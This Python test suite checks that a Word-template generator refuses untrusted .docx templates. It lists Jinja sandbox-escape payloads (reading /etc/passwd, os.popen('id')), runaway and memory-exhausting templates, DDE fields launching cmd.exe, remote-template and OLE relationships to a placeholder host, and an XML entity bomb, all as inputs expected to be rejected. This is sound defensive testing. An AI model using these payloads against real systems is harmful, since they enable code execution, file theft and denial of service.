"""A template from a stranger can do no harm: what is on this list is refused with a message, or comes to nothing."""

from __future__ import annotations

import time
from dataclasses import dataclass

import pytest
from word_documents import CORE, docx, table, words

from generator.findings import Finding
from generator.word.builder.template import build_template
from generator.word.builder.xml import NAMESPACES, w
from generator.word.package import CONTENT_TYPES, DOCUMENT, Member, read_parts, write_package
from generator.word.prepare import prepare
from generator.word.render import TemplateFault, compile_template, render
from generator.word.template_reading import read_template

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
RELATIONS = "word/_rels/document.xml.rels"


@dataclass(frozen=True)
class Khoi:
    """What a report gives to templates: frozen, as all of them."""

    chu: str = "chữ"
    ds: tuple[str, ...] = ("a", "b", "c", "d", "e", "f", "g", "h")


CONTEXT = {"x": "chữ", "khoi": Khoi(), "noi_dung": [Khoi() for _ in range(100)], "so": 3}


def refusal(data: bytes) -> list[Finding]:
    """Why a template is refused; it must be, and at once, and every finding says what and how to mend."""
    started = time.monotonic()
    prepared, findings = prepare(data, "mau.docx")
    if prepared is not None:
        with pytest.raises(TemplateFault) as raised:
            render(compile_template(prepared), CONTEXT)
        findings = raised.value.findings
    assert time.monotonic() - started < 10
    assert findings
    assert all(each.problem and each.fix for each in findings)
    return findings


# --- ways out of the sandbox ------------------------------------------------------------------------------------

ESCAPES = [
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''['__class__'] }}",
    "{{ ''['__cla' + 'ss__'] }}",
    "{{ ''['__cla' ~ 'ss__'] }}",
    "{{ x|attr('__class__') }}",
    "{{ ().__class__.__bases__[0].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ khoi.__class__ }}",
    "{{ khoi.__init__.__globals__ }}",
    "{{ khoi['__init__'] }}",
    "{{ khoi.__struct_fields__ }}",
    "{{ khoi.__struct_config__ }}",
    "{{ khoi.__reduce_ex__(2) }}",
    "{{ noi_dung|map(attribute='__class__')|list }}",
    "{{ noi_dung|map(attribute='__init__.__globals__')|first }}",
    "{{ noi_dung|sum(attribute='__class__') }}",
    "{{ noi_dung|sort(attribute='__class__')|first }}",
    "{{ [x]|map('attr', '__class__')|list }}",
    "{{ noi_dung|groupby('__class__') }}",
    "{{ noi_dung|selectattr('__class__')|list|length / 0 }}",
    "{{ self }}",
    "{{ self.__init__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ loop }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ namespace(a=1) }}",
    "{{ dict(a=1) }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ range(10) }}",
    "{{ get_flashed_messages() }}",
    "{{ config }}",
    "{{ request }}",
    "{{ url_for.__globals__ }}",
    "{{ x.format(1) }}",
    "{{ '{0.__class__}'.format(x) }}",
    "{{ '{0.__class__}'|format(x) }}",
    "{{ x.format_map({'a': 1}) }}",
    "{{ '%s'|format(x) }}",
    "{{ x.encode() }}",
    "{{ x.translate({1: 2}) }}",
    "{{ x.join(['a']) }}",
    "{{ noi_dung.append(1) }}",
    "{{ noi_dung.clear() }}",
    "{{ noi_dung.sort() }}",
    "{{ x|pprint }}",
    "{{ x|safe }}",
    "{{ x|tojson }}",
    "{{ x|xmlattr }}",
    "{{ x|forceescape }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% from 'os' import popen %}",
    "{% extends 'x' %}",
    "{% block a %}{% endblock %}",
    "{% do noi_dung.clear() %}",
    "{% debug %}",
    "{% set khoi.chu = 1 %}{{ khoi.chu }}",
    "{% autoescape false %}{{ x }}{% endautoescape %}",
    "{% call x() %}{% endcall %}",
    "{% filter upper %}{{ x }}{% endfilter %}",
    "{% with a = 1 %}{{ a }}{% endwith %}",
    "{% raw %}{{ x }}{% endraw %}{{ thieu }}",
    "{% macro a() %}{% endmacro %}",
    "{% trans %}a{% endtrans %}",
    "{%p macro a() %}",
]


@pytest.mark.parametrize("tag", ESCAPES)
@pytest.mark.parametrize("place", ["text", "property"])
def test_a_known_way_out_of_the_sandbox_is_refused(tag: str, place: str) -> None:
    if place == "text":
        refusal(docx(words(tag)))
    else:
        core = f'<c xmlns:dc="d"><dc:title>{tag.replace("{%p", "{%")}</dc:title></c>'
        refusal(docx(words("chữ"), parts={CORE: core}))
    assert len(CONTEXT["noi_dung"]) == 100  # type: ignore[arg-type]


def test_what_is_printed_is_escaped_and_never_run() -> None:
    prepared, _ = prepare(docx(words("{{ x }}")), "mau.docx")
    assert prepared is not None
    made = render(compile_template(prepared), {"x": "</w:t><w:altChunk/>{{ 7 * 7 }}"})
    document = read_parts(made)[DOCUMENT].decode()
    assert "<w:altChunk" not in document
    assert "{{ 7 * 7 }}" in document


# --- what runs on, or fills the memory --------------------------------------------------------------------------


def nested(depth: int, inside: str) -> str:
    opened = "".join(f"{{% for a{level} in noi_dung %}}" for level in range(depth))
    return opened + inside + "{% endfor %}" * depth


def doubled(start: str, step: str, times: int, end: str) -> str:
    return f"{{% set a0 = {start} %}}" + "".join(
        f"{{% set a{number + 1} = {step.replace('a', f'a{number}')} %}}" for number in range(times)
    ) + end.replace("a", f"a{times}")  # fmt: skip


RUNAWAYS = {
    "loops in loops that print": nested(6, "x"),
    "loops in loops that print nothing": nested(9, ""),
    "loops over the letters of a text": "{% for a in x %}" * 40 + "." + "{% endfor %}" * 40,
    "loops over lists put together": doubled("noi_dung", "a + a", 40, "{% for b in a %}x{% endfor %}"),
    "a text doubled by +": doubled("'x'", "a + a", 40, "{{ a }}"),
    "a text doubled by ~": doubled("'x'", "a ~ a", 40, "{{ a }}"),
    "a text doubled by replace": doubled("'x'", "a|replace('x', 'xx')", 40, "{{ a }}"),
    "a text doubled by join": doubled("'x'", "[a, a]|join", 40, "{{ a }}"),
    "lists that hold each other": doubled("'x'", "[a, a]", 40, "{{ a|upper }}"),
    "tuples that hold each other": doubled("'x'", "(a, a)", 40, "{{ a == a }}"),
    "names that hold each other": doubled("'x'", "dict(b=a, c=a)", 40, "{{ a|upper }}"),
    "a number doubled": doubled("9", "a * a", 40, "{{ a }}"),
    "a number added to itself": doubled("9", "a + a", 400, "{{ a }}"),
    "a tower of powers": "{{ 9 ** 9 ** 9 ** 9 }}",
    "a text multiplied": "{{ 'x' * 1000000000 }}",
    "a list multiplied": "{{ noi_dung * 1000000000 }}",
    "a text padded": "{{ x.ljust(1000000000) }}",
    "a text filled by format": "{{ '%1000000000d' % 1 }}",
    "a loop that calls itself": "{% for a in noi_dung recursive %}{{ loop(noi_dung) }}{% endfor %}",
    "a macro that calls itself": "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}",
    "a macro that calls itself twice": (
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}"
    ),
    "long texts looked through again and again": doubled("'x'", "a + a", 19, nested(3, "{{ a|upper|length }}")),
    "a long text printed again and again": doubled("'x'", "a + a", 19, nested(2, "{{ a }}")),
    "parentheses without end": "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
    "a condition without end": "{{ " + "not " * 5000 + "x }}",
    "conditions in conditions": "{% if x %}" * 500 + "{% endif %}" * 500,
}


@pytest.mark.parametrize("tag", RUNAWAYS.values(), ids=list(RUNAWAYS))
def test_a_template_that_runs_on_is_stopped(tag: str) -> None:
    refusal(docx(words(tag)))


@pytest.mark.parametrize("tag", [*ESCAPES, *RUNAWAYS.values()], ids=range(len(ESCAPES) + len(RUNAWAYS)))
def test_checking_it_takes_no_long_time_and_runs_nothing(tag: str) -> None:
    started = time.monotonic()
    view = read_template(docx(words(tag)), "mau.docx")
    assert view.tags
    assert time.monotonic() - started < 10


def test_rows_that_multiply_are_stopped() -> None:
    rows = table(
        *(["{%tr for a" + str(level) + " in noi_dung %}", "", ""] for level in range(5)),
        ["x", "y", "z"],
        *(["{%tr endfor %}", "", ""] for _ in range(5)),
    )
    refusal(docx(rows))


# --- what the file brings along ---------------------------------------------------------------------------------


def with_parts(**changed: str) -> bytes:
    """The shipped template with parts added or changed; underscores in names stand for what they cannot hold."""
    parts = {**read_parts(build_template()), **{name: text.encode() for name, text in changed.items()}}
    return write_package(Member.of(name, content) for name, content in parts.items())


def related(kind: str, target: str, part: str = RELATIONS, *, external: bool = True, office: str = OFFICE) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="rIdX" Type="{office}/{kind}" Target="{target}"{mode}/>'
    known = read_parts(build_template()).get(part, f'<Relationships xmlns="{PACKAGE}"></Relationships>'.encode())
    return with_parts(**{part: known.decode().replace("</Relationships>", f"{relation}</Relationships>")})


SETTINGS = "word/_rels/settings.xml.rels"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
BROUGHT = {
    "a template from the network": related("attachedTemplate", "https://xau.example/a.dotm", SETTINGS),
    "a template from a shared folder": related("attachedTemplate", r"\\xau\a.dotm", SETTINGS),
    "a template on a disk": related("attachedTemplate", "file:///C:/a.dotm", SETTINGS),
    "a picture from the network": related("image", "https://xau.example/a.png"),
    "a picture of the header from the network": related("image", "//xau/a.png", "word/_rels/header1.xml.rels"),
    "an object from the network": related("oleObject", "mhtml:https://xau.example/a.html!x-usc:a"),
    "an object inside": related("oleObject", "embeddings/oleObject1.bin", external=False),
    "a workbook inside": related("package", "embeddings/a.xlsx", external=False),
    "another document inside": related("aFChunk", "afchunk.mht", external=False),
    "a part of another document": related("subDocument", "https://xau.example/a.docx"),
    "a frame": related("frame", "https://xau.example/a.html", "word/_rels/webSettings.xml.rels"),
    "the source of a mail merge": related("mailMergeSource", "file:///a.mdb", SETTINGS),
    "a button that runs a program": related("control", "activeX/activeX1.xml", external=False),
    "a ribbon": related("ui/extensibility", "customUI/a.xml", "_rels/.rels", external=False, office=MICROSOFT),
    "macros": with_parts(**{"word/vbaProject.bin": "x"}),
    "macros by another name": related("vbaProject", "a.bin", external=False, office=MICROSOFT),
    "a type that has macros": with_parts(
        **{CONTENT_TYPES: read_parts(build_template())[CONTENT_TYPES].decode().replace(
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main", "vnd.ms-word.document.macroEnabled.main"
        )}
    ),
}  # fmt: skip


@pytest.mark.parametrize("data", BROUGHT.values(), ids=list(BROUGHT))
def test_what_a_template_must_not_bring_along_is_refused(data: bytes) -> None:
    assert {each.rule for each in refusal(data)} == {"MB106"}


def field(*instructions: str) -> str:
    """A field whose instruction is scattered over runs."""
    inner = "".join(w("r", f"<w:instrText>{each}</w:instrText>") for each in instructions)
    return w("p", w("r", w("fldChar", fldCharType="begin")), inner, w("r", w("fldChar", fldCharType="end")))


FIELDS = {
    "DDE": field('DDE "cmd" "/c calc"'),
    "DDEAUTO": field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '),
    "scattered": field("DDE", "AUTO a b"),
    "in lower case": field(" ddeauto a b"),
    "INCLUDETEXT": field('INCLUDETEXT "https://xau.example/a"'),
    "INCLUDEPICTURE": field(r'INCLUDEPICTURE "https://xau.example/a.png" \\d'),
    "LINK": field("LINK Excel.Sheet.8 a.xls"),
    "IMPORT": field("IMPORT a"),
    "DATABASE": field('DATABASE \\d "a"'),
    "MACROBUTTON": field("MACROBUTTON a b"),
    "letters by numbers": field(" QUOTE 68 68 69 "),
    "a field made by a field": w(
        "p",
        w("r", w("fldChar", fldCharType="begin")),
        field(" QUOTE 68 68 69 "),
        w("r", w("fldChar", fldCharType="end")),
    ),
    "simple": w("p", '<w:fldSimple w:instr="INCLUDETEXT a"/>'),
    "made by a tag": field("{{ x }}"),
    "left open": w("p", w("r", w("fldChar", fldCharType="begin")), w("r", "<w:instrText>DDEAUTO a</w:instrText>")),
}


@pytest.mark.parametrize("body", FIELDS.values(), ids=list(FIELDS))
@pytest.mark.parametrize("place", [DOCUMENT, "word/header1.xml", "word/comments.xml"])
def test_a_field_that_fetches_or_runs_is_refused_wherever_it_stands(body: str, place: str) -> None:
    beside = {place: f"<w:hdr {NAMESPACES}>{body}</w:hdr>"}
    data = docx(body) if place == DOCUMENT else docx(words("chữ"), parts=beside)
    assert {each.rule for each in refusal(data)} == {"MB106"}


@pytest.mark.parametrize("source", ["https://xau.example/a.png", r"\\xau\a.png", "file:///a.png", "//xau/a.png"])
def test_an_old_drawing_that_fetches_its_picture_is_refused(source: str) -> None:
    picture = f'<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{source}"/></v:shape>'
    assert {each.rule for each in refusal(docx(w("p", w("r", w("pict", picture)))))} == {"MB106"}


@pytest.mark.parametrize("kind", ["PAGE", " NUMPAGES ", "TOC \\o", "DATE \\@ d", "= 1 + 1", "HYPERLINK a", "page"])
def test_fields_that_count_and_number_are_let_through(kind: str) -> None:
    assert prepare(docx(field(kind)), "mau.docx")[0] is not None


def test_links_that_wait_for_a_click_are_let_through() -> None:
    assert prepare(related("hyperlink", "https://xaxuanloc.gov.vn"), "mau.docx")[0] is not None


@pytest.mark.parametrize("part", [DOCUMENT, "word/settings.xml", "word/_rels/document.xml.rels", CONTENT_TYPES])
def test_entities_are_refused(part: str) -> None:
    bomb = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>'
    known = read_parts(build_template())[part].decode()
    body = known.split("?>", 1)[1] if known.startswith("<?xml") else known
    assert {each.rule for each in refusal(with_parts(**{part: bomb + body}))} == {"MB101"}


# --- long files that waste time ---------------------------------------------------------------------------------

LONG = {
    "many tags that do not close": words(*["{{ x"] * 3000),
    "many openings in a paragraph": words("{{ " * 20_000),
    "many braces": words("{" * 100_000),
    "many rows that are not closed": words(*["{%tr for a in noi_dung %}"] * 1000),
    "many sound tags": words(*["{{ thieu }}"] * 5000),
    "one long paragraph of tags": words("{{ thieu }} " * 5000),
    "elements in elements": "<w:p>" + "<w:r>" * 400 + "</w:r>" * 400 + "</w:p>",
}


@pytest.mark.parametrize("body", LONG.values(), ids=list(LONG))
def test_a_long_file_takes_no_long_time(body: str) -> None:
    started = time.monotonic()
    prepared, _ = prepare(docx(body), "mau.docx")
    if prepared is not None and "thieu" in body:
        with pytest.raises(TemplateFault):
            render(compile_template(prepared), CONTEXT)
    assert time.monotonic() - started < 20
